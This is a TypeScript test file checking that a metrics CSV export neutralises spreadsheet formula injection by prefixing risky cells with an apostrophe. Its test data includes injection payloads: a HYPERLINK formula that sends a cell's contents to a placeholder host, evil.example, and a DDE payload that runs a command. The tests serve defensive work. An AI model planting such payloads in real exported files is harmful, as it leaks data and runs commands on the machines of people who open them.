// CSV formula injection (OWASP "CSV Injection"): a text cell that starts with =, +, -, @, a tab or a
// carriage return is run as a formula by Excel, LibreOffice and Google Sheets. The metrics CSV
// writes such cells with a leading apostrophe, quoted; numbers (negative losses) stay numbers.
import { describe, expect, it } from 'vitest';
import { DEFAULT_CONFIG } from '../../src/rl/config.ts';
import { parseCsv } from '../../src/fuzz/files.ts';
import { csvText, metricsToCsv } from '../../src/store/exportMetrics.ts';
import type { RunRecord } from '../../src/store/runs.ts';

function run(id: string, name: string, values: Record<string, number>): RunRecord {
  return { id, name, color: '#000', visible: true, config: { ...DEFAULT_CONFIG }, backend: 'webgpu', createdAt: 0, metrics: [{ iter: 0, values }] };
}

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', "=cmd|' /C calc'!A0"];

describe('CSV export: formula injection', () => {
  it.each(HOSTILE)('a run name %j reads back with a leading apostrophe, in one cell', (name) => {
    const rows = parseCsv(metricsToCsv([run('r1', name, { reward_mean: 0.5 })]));
    expect(rows).toHaveLength(2);
    expect(rows[1][1]).toBe(`'${name}`);
    expect(rows[1]).toHaveLength(4);
  });

  it('no text cell of the file starts with a formula character: run ids, names and metric names alike', () => {
    const runs = HOSTILE.map((h, i) => run(h, h, { [h]: -0.25, reward_mean: i }));
    const text = metricsToCsv(runs);
    const rows = parseCsv(text);
    expect(rows).toHaveLength(1 + runs.length);
    const numeric = (cell: string) => cell === '' || Number.isFinite(Number(cell));
    for (const row of rows) for (const cell of row) if (!numeric(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // The hostile metric names are header cells, neutralised too; their values stay numbers.
    const header = rows[0];
    for (const h of HOSTILE) expect(header).toContain(`'${h}`);
    const col = header.indexOf(`'${HOSTILE[0]}`);
    expect(rows[1][col]).toBe('-0.25');
  });

  it('negative numbers and ordinary names are written as they are', () => {
    const text = metricsToCsv([run('r1', 'ε = 0.05', { policy_loss: -0.0123, kl: 1e-7 })]);
    expect(text.trim().split('\n')).toEqual(['run_id,run_name,iter,kl,policy_loss', 'r1,ε = 0.05,0,1e-7,-0.0123']);
  });

  it('csvText prefixes exactly the OWASP characters', () => {
    expect(['=a', '+a', '-a', '@a', '\ta', '\ra'].map(csvText)).toEqual(["'=a", "'+a", "'-a", "'@a", "'\ta", "'\ra"]);
    expect(['a=', ' =a', '', "'a", '1', 'run 3'].map(csvText)).toEqual(['a=', ' =a', '', "'a", '1', 'run 3']);
  });
});
